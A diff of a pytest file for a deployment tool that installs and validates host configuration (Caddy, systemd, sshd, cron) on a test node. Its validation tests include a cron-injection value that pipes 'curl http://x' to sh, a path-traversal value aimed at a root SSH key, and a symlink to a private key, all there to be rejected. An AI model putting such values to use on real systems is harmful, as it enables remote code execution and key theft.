@@ -1,5 +1,6 @@
-"""Node bootstrap on a real-systemd node: installed once, diffed, hooks only on change, config
-errors caught at preview before anything touches the node."""
+"""Host config on a real-systemd node through the real engine (issues 18 and 25): files from a
+committed ref, each checked by its own tool before it is live, installed once, reloaded only on
+change, put back when a reload fails or a hand edit is found, config errors caught at preview."""
 
 from __future__ import annotations
 
@@ -13,24 +14,41 @@ DEPLOY = "server/deploy"
 INSTALLED = {  # source in the server repo -> (path on the node, mode)
     "Caddyfile": ("/etc/caddy/Caddyfile", 0o644),
     "makenotwork.service": ("/etc/systemd/system/makenotwork.service", 0o644),
-    "sshd-git.conf": ("/etc/ssh/sshd_config.d/sshd-git.conf", 0o644),
-    "fail2ban-sshd.conf": ("/etc/fail2ban/jail.d/sshd.conf", 0o644),
+    "sshd-git.conf": ("/etc/ssh/sshd_config.d/makenotwork-git.conf", 0o644),  # as its header says
+    "fail2ban-sshd.conf": ("/etc/fail2ban/jail.d/makenotwork-sshd.conf", 0o644),
     "setup-firewall.sh": ("/usr/local/sbin/setup-firewall.sh", 0o755),
     "backup-db.sh": ("/usr/local/sbin/backup-db.sh", 0o755),
 }
 
 
-@pytest.fixture(scope="module")
-def node_app(tmp_path_factory):
-    """Own copy: these tests edit the bootstrap sources in its working tree."""
-    return AppRepo(tmp_path_factory.mktemp("nodeapp") / "makenotwork")
+@pytest.fixture
+def node_app(tmp_path):
+    """Own copy: these tests commit host-config changes to it."""
+    return AppRepo(tmp_path / "nodeapp" / "makenotwork")
 
 
-def test_bootstrap_installs_once_and_hooks_run_only_on_change(make_nodes, make_deploy, node_app):
+def commit(repo: AppRepo, rel: str, text: str, msg: str = "host config") -> str:
+    (repo.path / rel).write_text(text)
+    repo.git("add", "-A")
+    repo.git("commit", "-q", "-m", msg)
+    return repo.commit("HEAD")
+
+
+def caddy_serves(node) -> bool:
+    status, body = node.fetch(node.caddyUrl + "__mnw_error_test")
+    return status == 503 and "mnw-error-page" in body
+
+
+def host_events(node) -> list[tuple[str, str]]:
+    """What systemd did to the units host config touches (not the app's own switch restarts)."""
+    return [e for e in node.unit_events() if e[1] in ("caddy", "ssh", "-") or e[0] == "daemon-reload"]
+
+
+def test_host_config_from_the_ref_installed_once_and_applied_only_on_change(make_nodes, make_deploy, node_app):
     (node,) = make_nodes(1)
-    d = make_deploy([node], repo=node_app, bootstrap={"backupSchedule": "5 4 * * *"})
+    d = make_deploy([node], repo=node_app, bootstrap={"ref": "main", "backupSchedule": "5 4 * * *"})
 
-    # 1. every item installed byte for byte with its mode; one caddy reload, one daemon-reload
+    # 1. every item installed byte for byte as committed, with its mode; applied once each
     run_up(d)
     for src, (dest, mode) in INSTALLED.items():
         installed = node.path(dest)
@@ -41,7 +59,11 @@ def test_bootstrap_installs_once_and_hooks_run_only_on_change(make_nodes, make_d
     assert (node.release_root / "releases").is_dir()
     events = node.unit_events()
     assert events.count(("reload", "caddy")) == 1 and events.count(("daemon-reload", "-")) == 1
-    # real systemd accepted the unit, and real cron the backup entry
+    assert events.count(("reload", "ssh")) == 1  # the sshd drop-in: `sshd -t`, then reload (never restart)
+    assert ("restart", "ssh") not in events
+    assert "fail2ban is not installed (apt-get install fail2ban)" in "\n".join(d.log)  # the jail: a warning
+    out = d.outputs()
+    assert out["hostConfig"] == {"ref": "main", "commit": node_app.commit("main")}
     assert node.exec("systemd-analyze", "verify", "/etc/systemd/system/makenotwork.service").returncode == 0
 
     # 2. nothing changed: 0 resources changed, no unit touched
@@ -49,33 +71,36 @@ def test_bootstrap_installs_once_and_hooks_run_only_on_change(make_nodes, make_d
     assert changed == {} and set(res.summary.resource_changes) == {"same"}
     assert node.unit_events() == events
 
-    # 3. only the Caddyfile: preview lists exactly it and its reload; up reloads caddy once
+    # 3. an uncommitted edit never ships
     caddyfile = node_app.path / DEPLOY / "Caddyfile"
-    caddyfile.write_text(caddyfile.read_text() + "\n# tuned by the operator\n")
+    caddyfile.write_text(caddyfile.read_text() + "\n# uncommitted\n")
     _, planned = run_preview(d)
-    assert planned == {"node1-caddyfile": "update", "node1-caddy-reload": "update"}
+    assert planned == {}
+    node_app.git("checkout", "--", f"{DEPLOY}/Caddyfile")
+
+    # 4. a committed Caddyfile change: the preview names the file; up reloads caddy once, nothing else
+    new = commit(node_app, f"{DEPLOY}/Caddyfile", caddyfile.read_text() + "\n# tuned by the operator\n")
+    _, planned = run_preview(d)
+    assert planned == {"node1-host": "update"}
+    assert f"server/deploy/Caddyfile -> /etc/caddy/Caddyfile changed at sando:bootstrap.ref main ({new[:12]})" \
+        in "\n".join(d.log)
     _, changed = run_up(d)
     assert changed == planned
     assert node.path("/etc/caddy/Caddyfile").read_text() == caddyfile.read_text()
     assert node.unit_events() == events + [("reload", "caddy")]
-
-    # 4. only the unit: daemon-reload once, no caddy reload, no restart
-    unit = node_app.path / DEPLOY / "makenotwork.service"
-    unit.write_text(unit.read_text().replace("RestartSec=2", "RestartSec=3"))
-    _, changed = run_up(d)
-    assert changed == {"node1-unit": "update", "node1-daemon-reload": "update"}
-    assert node.unit_events() == events + [("reload", "caddy"), ("daemon-reload", "-")]
-    assert node.exec("systemctl", "show", "-p", "RestartUSec", "makenotwork").stdout.strip() == "RestartUSec=3s"
-
-    # caddy really serves the live release's error pages after its reload
-    status, body = node.fetch(node.caddyUrl + "__mnw_error_test")
-    assert status == 503 and "mnw-error-page" in body
+    assert d.outputs()["hostConfig"]["commit"] == new
+    assert caddy_serves(node), node.fetch(node.caddyUrl + "__mnw_error_test")  # the live release's error pages
     node.exec("systemctl", "restart", "cron")  # cron reads /etc/cron.d at start and logs what it refuses
-    cron_log = node.journal("cron")
-    assert "makenotwork-backup" not in cron_log, cron_log  # it names a file only to complain about it
+    assert "makenotwork-backup" not in node.journal("cron")  # it names a file only to complain about it
+
+    # 5. re-adopting the node after `pulumi destroy` reloads nothing: every file is identical (18.7)
+    before = node.unit_events()
+    d.stack.destroy(color="never")
+    run_up(d)
+    assert [e for e in node.unit_events()[len(before):] if e[1] != "makenotwork"] == []
 
 
-def test_pinning_an_older_version_never_rolls_the_caddyfile_back(make_nodes, make_deploy, tmp_path):
+def test_pinning_an_older_version_never_rolls_host_config_back(make_nodes, make_deploy, tmp_path):
     repo = AppRepo(tmp_path / "app")
     caddyfile = repo.path / DEPLOY / "Caddyfile"
     caddyfile.write_text(caddyfile.read_text() + "\n# v2's Caddyfile\n")
@@ -83,25 +108,144 @@ def test_pinning_an_older_version_never_rolls_the_caddyfile_back(make_nodes, mak
     (node,) = make_nodes(1)
     d = make_deploy([node], repo=repo, version="v2")
     run_up(d)
-    d.set(version="v1")  # v1's commit has the old Caddyfile; the working tree has v2's
+    d.set(version="v1")  # v1's commit has the old Caddyfile; bootstrap.ref (main) has v2's
     _, changed = run_up(d)
-    assert "node1-caddyfile" not in changed
+    assert "node1-host" not in changed
     assert "# v2's Caddyfile" in node.path("/etc/caddy/Caddyfile").read_text()
     assert node.served()["version"] == "v1"
 
 
-def test_bootstrap_manage_subset_and_owner(make_nodes, make_deploy, node_app):
+def test_a_broken_caddyfile_never_becomes_live(make_nodes, make_deploy, node_app):
     (node,) = make_nodes(1)
-    node.exec("useradd", "--system", "mnw")
-    d = make_deploy([node], repo=node_app, bootstrap={"manage": ["caddyfile", "unit"], "owner": "mnw:mnw"})
+    d = make_deploy([node], repo=node_app, healthCheck={"timeoutSeconds": 10, "intervalSeconds": 0.2,
+                                                        "expectVersion": True, "caddyUrl": node.caddyUrl})
     run_up(d)
-    assert node.path("/etc/caddy/Caddyfile").exists() and node.path("/etc/systemd/system/makenotwork.service").exists()
-    for dest in ("/etc/ssh/sshd_config.d/sshd-git.conf", "/usr/local/sbin/backup-db.sh",
-                 "/etc/cron.d/makenotwork-backup", "/usr/local/sbin/setup-firewall.sh"):
-        assert not node.path(dest).exists(), dest
-    owner = node.exec("stat", "-c", "%U:%G", "/opt/makenotwork/releases").stdout.strip()
-    assert owner == "mnw:mnw"
+    good = node.path("/etc/caddy/Caddyfile").read_text()
+    caddyfile = node_app.path / DEPLOY / "Caddyfile"
+    lines = caddyfile.read_text().rstrip("\n").splitlines()
+    assert lines[-1] == "}"  # the site block's end: the bad directive goes inside it
+    commit(node_app, f"{DEPLOY}/Caddyfile", "\n".join(lines[:-1] + ["\tthis_is_not_a_directive {", "\t}", "}"]) + "\n")
+    where = f"server/deploy/Caddyfile:{len(lines)}"
+
+    # the preview fails already, quoting caddy with the file (as in the repo) and line; nothing changed
+    log = []
+    with pytest.raises(Exception) as err:
+        d.stack.preview(color="never", on_output=log.append)
+    (msg,) = d.errors("\n".join(log) + "\n" + str(err.value))
+    assert msg.startswith("node1: server/deploy/Caddyfile -> /etc/caddy/Caddyfile at sando:bootstrap.ref main")
+    assert "fails caddy validate" in msg and where in msg and "this_is_not_a_directive" in msg, msg
+    # so does the up, and the live file, caddy and the site are as they were
+    events = node.unit_events()
+    out = d.up_fails()
+    assert where in out and "the live file is unchanged" in out
+    assert node.path("/etc/caddy/Caddyfile").read_text() == good
+    assert node.exec("systemctl", "is-active", "caddy").stdout.strip() == "active"
+    assert caddy_serves(node)
+    assert ("reload", "caddy") not in node.unit_events()[len(events):]
+
+    # fixed in the repo: the next up installs it
+    commit(node_app, f"{DEPLOY}/Caddyfile", "\n".join(lines + ["# fixed"]) + "\n")
+    run_up(d)
+    assert node.path("/etc/caddy/Caddyfile").read_text().endswith("# fixed\n")
+    assert node.unit_events()[len(events):] == [("reload", "caddy")]
+
+
+def test_caddy_stopped_or_disabled_by_hand_is_started_by_up(make_nodes, make_deploy, node_app):
+    (node,) = make_nodes(1)
+    d = make_deploy([node], repo=node_app, healthCheck={"timeoutSeconds": 10, "intervalSeconds": 0.2,
+                                                        "expectVersion": True, "caddyUrl": node.caddyUrl})
+    run_up(d)
+    node.exec("systemctl", "disable", "--now", "caddy", check=True)
+    _, planned = run_preview(d)
+    assert planned == {"node1-host": "update"} and "node1: caddy is inactive; `pulumi up` starts and enables it" \
+        in "\n".join(d.log)
+    _, changed = run_up(d)
+    assert changed == planned
+    assert node.exec("systemctl", "is-active", "caddy").stdout.strip() == "active"
+    assert node.exec("systemctl", "is-enabled", "caddy").stdout.strip() == "enabled"
+    assert caddy_serves(node)
+    assert "started caddy (it was inactive)" in "\n".join(d.log)
+    assert d.node_out(node)["hostConfig"]["actions"][:2] == ["enabled caddy", "started caddy (it was inactive)"]
+
+
+def test_a_hand_edit_shows_in_a_plain_preview_and_up_puts_it_back(make_nodes, make_deploy, node_app):
+    (node,) = make_nodes(1)
+    d = make_deploy([node], repo=node_app)
+    run_up(d)
+    committed = node.path("/etc/caddy/Caddyfile").read_text()
+    with open(node.path("/etc/caddy/Caddyfile"), "a") as fh:
+        fh.write("# hotfix by hand\n")
+    node.path("/usr/local/sbin/backup-db.sh").chmod(0o777)
+    _, planned = run_preview(d)  # no --refresh
+    assert planned == {"node1-host": "update"}
+    assert ("node1: /etc/caddy/Caddyfile, /usr/local/sbin/backup-db.sh changed on the node (not as committed at "
+            "sando:bootstrap.ref main); `pulumi up` puts the committed copies back") in "\n".join(d.log)
+    events = node.unit_events()
+    run_up(d)
+    assert node.path("/etc/caddy/Caddyfile").read_text() == committed
+    assert stat.S_IMODE(node.path("/usr/local/sbin/backup-db.sh").stat().st_mode) == 0o755
+    assert node.unit_events()[len(events):] == [("reload", "caddy")]
+    _, planned = run_preview(d)
+    assert planned == {}
+
+
+def test_a_unit_change_restarts_the_service_and_the_app_sees_it(make_nodes, make_deploy, node_app):
+    (node,) = make_nodes(1)
+    d = make_deploy([node], repo=node_app)
+    run_up(d)
+    unit = node_app.path / DEPLOY / "makenotwork.service"
+    commit(node_app, f"{DEPLOY}/makenotwork.service",
+           unit.read_text().replace("[Service]\n", "[Service]\nEnvironment=MNW_FEATURE=on\n"))
+    events = node.unit_events()
+    _, changed = run_up(d)
+    assert changed == {"node1-host": "update"}
+    assert node.unit_events()[len(events):] == [("daemon-reload", "-"), ("restart", "makenotwork")]
+    pid = node.exec("systemctl", "show", "-p", "MainPID", "--value", "makenotwork").stdout.strip()
+    assert "MNW_FEATURE=on" in node.exec("cat", f"/proc/{pid}/environ").stdout.split("\0")
+    assert "restarted makenotwork: its unit file changed (server/deploy/makenotwork.service)" in "\n".join(d.log)
     assert node.served()["version"] == "v1"
+
+    # a unit the service cannot run with: restarted, unhealthy, the previous unit back and healthy again
+    commit(node_app, f"{DEPLOY}/makenotwork.service",
+           unit.read_text().replace("[Service]\n", "[Service]\nExecStartPre=/bin/false\n"))
+    out = d.up_fails()
+    assert "node1: makenotwork failed after its unit changed (server/deploy/makenotwork.service" in out, out
+    assert "the previous unit is back and makenotwork is healthy with it" in out
+    assert "MNW_FEATURE=on" in node.path("/etc/systemd/system/makenotwork.service").read_text()
+    assert node.served()["version"] == "v1"
+
+
+def test_a_broken_sshd_drop_in_is_put_back_and_sshd_keeps_serving(make_nodes, make_deploy, node_app):
+    (node,) = make_nodes(1)
+    d = make_deploy([node], repo=node_app)
+    run_up(d)
+    good = node.path("/etc/ssh/sshd_config.d/makenotwork-git.conf").read_text()
+    commit(node_app, f"{DEPLOY}/sshd-git.conf", good + "NoSuchSshdOption yes\n")
+    out = d.up_fails()
+    assert "node1: server/deploy/sshd-git.conf -> /etc/ssh/sshd_config.d/makenotwork-git.conf" in out, out
+    assert "fails sshd -t" in out and "NoSuchSshdOption" in out
+    assert node.path("/etc/ssh/sshd_config.d/makenotwork-git.conf").read_text() == good
+    commit(node_app, f"{DEPLOY}/sshd-git.conf", good)
+    run_up(d)  # sando still gets in: sshd was never restarted or reloaded with the broken file
+
+
+def test_copies_where_earlier_sando_versions_put_the_files_are_cleaned_up(make_nodes, make_deploy, node_app):
+    """Issue 18.6: earlier versions installed the sshd drop-in and the jail under names their headers
+    do not say; an identical copy there is removed, a different file is left with a warning."""
+    (node,) = make_nodes(1)
+    sshd = (node_app.path / DEPLOY / "sshd-git.conf").read_text()
+    node.path("/etc/ssh/sshd_config.d/sshd-git.conf").write_text(sshd)
+    node.path("/etc/fail2ban/jail.d").mkdir(parents=True, exist_ok=True)
+    node.path("/etc/fail2ban/jail.d/sshd.conf").write_text("[sshd]\nenabled = false\n")  # the operator's own
+    d = make_deploy([node], repo=node_app)
+    run_up(d)
+    assert node.path("/etc/ssh/sshd_config.d/makenotwork-git.conf").read_text() == sshd
+    assert not node.path("/etc/ssh/sshd_config.d/sshd-git.conf").exists()
+    assert node.path("/etc/fail2ban/jail.d/sshd.conf").read_text() == "[sshd]\nenabled = false\n"
+    assert "/etc/fail2ban/jail.d/sshd.conf (where earlier sando versions installed fail2ban) differs" \
+        in "\n".join(d.log)
+    _, changed = run_up(d)
+    assert changed == {}
 
 
 def _nodes(node, **change):
@@ -124,6 +268,16 @@ def _nodes(node, **change):
     (lambda d, n: d.set(rollout={"batchSize": 0}), "sando:rollout.batchSize: must be 1 or more"),
     (lambda d, n: d.set(migrations={"dryRunCommand": "mnw-admin migrate --database {database}"}),
      "sando:migrations.dryRunCommand: must run against {scratch}"),
+    # issue 25.1: a cron line injection through the backup user
+    (lambda d, n: d.set(bootstrap={"ref": "main", "backupUser": "root\n* * * * * root curl http://x|sh\n#"}),
+     "sando:bootstrap.backupUser: must be a user name"),
+    (lambda d, n: d.set(bootstrap={"ref": "main", "backupSchedule": "17 3 * * * root x\n#"}),
+     "sando:bootstrap.backupSchedule: must be a 5-field cron schedule"),
+    # issue 25.2: a local file outside the repo
+    (lambda d, n: d.set(bootstrap={"ref": "main", "caddyfile": "../../../root/.ssh/id_ed25519"}),
+     "sando:bootstrap.caddyfile: must be a relative path inside the server repo"),
+    (lambda d, n: d.set(bootstrap={"ref": "no-such-ref"}), "sando:bootstrap.ref: 'no-such-ref' is not a branch"),
+    (lambda d, n: d.set(bootstrap={"backupUser": "root"}), "sando:bootstrap.ref: is required"),
 ])
 def test_config_errors_fail_at_preview_naming_the_key(make_nodes, make_deploy, mutate, expected):
     (node,) = make_nodes(1)
@@ -140,4 +294,125 @@ def test_config_errors_fail_at_preview_naming_the_key(make_nodes, make_deploy, m
     d.up_fails()
     assert node.unit_events() == []  # nothing ran on the node
     assert not node.path("/etc/caddy/Caddyfile").read_text().startswith("# Caddy v2 config of makenotwork")
+    assert not node.path("/etc/cron.d/makenotwork-backup").exists()
     assert not (node.release_root / "releases").exists()
+
+
+def test_a_committed_symlink_to_a_private_key_fails_at_preview(make_nodes, make_deploy, node_app, tmp_path):
+    (node,) = make_nodes(1)
+    secret = tmp_path / "id_ed25519"
+    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
+    caddyfile = node_app.path / DEPLOY / "Caddyfile"
+    caddyfile.unlink()
+    caddyfile.symlink_to(secret)
+    node_app.git("add", "-A")
+    node_app.git("commit", "-q", "-m", "symlink")
+    d = make_deploy([node], repo=node_app)
+    out = d.up_fails()
+    (msg,) = d.errors(out)
+    assert msg.startswith("sando:bootstrap.caddyfile: 'server/deploy/Caddyfile' is a symlink in the repo"), msg
+    assert "PRIVATE KEY" not in out
+    assert node.unit_events() == []
+
+
+@pytest.fixture
+def sando(monkeypatch, engine):
+    """`sando ...` as an operator runs it (as in test_cli.py)."""
+    import io
+    import os
+
+    from sando_components import cli
+    from tests.support import TOOLS
+
+    for k, v in engine.items():
+        monkeypatch.setenv(k, v)
+    monkeypatch.setenv("PATH", f"{TOOLS / 'bin'}:{os.environ['PATH']}")
+
+    def run(project, *argv) -> tuple[int, str]:
+        out, err = io.StringIO(), io.StringIO()
+        code = cli.main([*argv, "--cwd", str(project)], out=out, err=err, stdin=io.StringIO())
+        return code, out.getvalue() + err.getvalue()
+    return run
+
+
+def test_promote_carries_the_host_config_commit_testnot_runs(make_nodes, make_deploy, node_app, sando):
+    t_node, p_node = make_nodes(2)
+    old = node_app.commit("main")
+    testnot = make_deploy([t_node], repo=node_app, bootstrap={"ref": old})
+    prod = make_deploy([p_node], repo=node_app, project=testnot.project, bootstrap={"ref": old})
+    run_up(testnot)
+    run_up(prod)
+    caddyfile = node_app.path / DEPLOY / "Caddyfile"
+    new = commit(node_app, f"{DEPLOY}/Caddyfile", caddyfile.read_text() + "# pushed through testnot\n")
+    testnot.set(bootstrap={"ref": new})
+    run_up(testnot)
+    assert t_node.path("/etc/caddy/Caddyfile").read_text().endswith("# pushed through testnot\n")
+    commit(node_app, f"{DEPLOY}/Caddyfile", caddyfile.read_text() + "# not yet on testnot\n")  # main moves on
+
+    code, said = sando(testnot.project, "promote", "--from", testnot.name, "--to", prod.name, "--yes")
+    assert code == 0, said
+    assert prod.outputs()["hostConfig"]["commit"] == new
+    assert prod.stack.get_config("sando:bootstrap.ref", path=True).value == new
+    assert p_node.path("/etc/caddy/Caddyfile").read_text() == t_node.path("/etc/caddy/Caddyfile").read_text()
+
+
+def test_host_config_follows_the_rollout_batches(make_nodes, make_deploy, node_app):
+    node_app.version("v2")
+    nodes = make_nodes(2)
+    node1, node2 = nodes
+    d = make_deploy(nodes, repo=node_app, rollout={"batchSize": 1})
+    run_up(d)
+    old = node2.path("/etc/caddy/Caddyfile").read_text()
+    node1.unit_dropin("refuse-v2", "[Service]\nExecStartPre=/bin/sh -c "
+                                   "'readlink /opt/makenotwork/current | grep -qvx releases/v2'")
+    commit(node_app, f"{DEPLOY}/Caddyfile", old + "# with v2\n")
+    d.set(version="v2")
+    (error,) = d.errors(d.up_fails())
+    assert error.startswith("node1: v2 failed its health check") and "node2 not switched" in error, error
+    assert node1.path("/etc/caddy/Caddyfile").read_text().endswith("# with v2\n")  # batch 1 got it
+    assert node2.path("/etc/caddy/Caddyfile").read_text() == old  # batch 2 held back, like its switch
+    node1.unit_dropin("refuse-v2", "")
+    run_up(d)
+    assert node2.path("/etc/caddy/Caddyfile").read_text().endswith("# with v2\n")
+
+
+def test_rotating_the_ssh_key_is_no_change_on_the_node(make_nodes, make_deploy, node_app, tmp_path):
+    import subprocess
+
+    (node,) = make_nodes(1)
+    d = make_deploy([node], repo=node_app)
+    run_up(d)
+    new_key = tmp_path / "rotated"
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(new_key)], check=True)
+    with open(node.path("/root/.ssh/authorized_keys"), "a") as fh:
+        fh.write(new_key.with_suffix(".pub").read_text())
+    d.set_secret("sshPrivateKey", new_key.read_text())
+    _, planned = run_preview(d)
+    assert "node1-host" not in planned, planned
+    events = node.unit_events()
+    run_up(d)
+    assert node.unit_events() == events  # nothing reloaded or restarted
+    # the old key removed from authorized_keys (README: key rotation): sando still gets in
+    node.path("/root/.ssh/authorized_keys").write_text(new_key.with_suffix(".pub").read_text())
+    _, changed = run_up(d)
+    assert "node1-host" not in changed
+
+
+def test_a_unit_change_on_prod_warns_users_before_its_restart(make_nodes, make_deploy, node_app):
+    import os
+
+    token = "tok-" + os.urandom(8).hex()
+    (node,) = make_nodes(1, token=token)
+    d = make_deploy([node], repo=node_app, restartWarningSeconds=1)
+    d.set_secret("cliServiceToken", token)
+    run_up(d)
+    unit = node_app.path / DEPLOY / "makenotwork.service"
+    commit(node_app, f"{DEPLOY}/makenotwork.service", unit.read_text().replace("RestartSec=2", "RestartSec=3"))
+    warned = node.journal("makenotwork").count("restart-warning: received")
+    run_up(d)
+    said = node.journal("makenotwork")
+    assert said.count("restart-warning: received") == warned + 1, d.node_out(node)["hostConfig"]["actions"]
+    assert said.rindex("restart-warning: received") < said.rindex("Stopping makenotwork")
+    assert d.node_out(node)["hostConfig"]["actions"][2].startswith("restart warning sent at ")
+    assert node.exec("systemctl", "show", "-p", "RestartUSec", "makenotwork").stdout.strip() == "RestartUSec=3s"
+    assert token not in "\n".join(d.log)
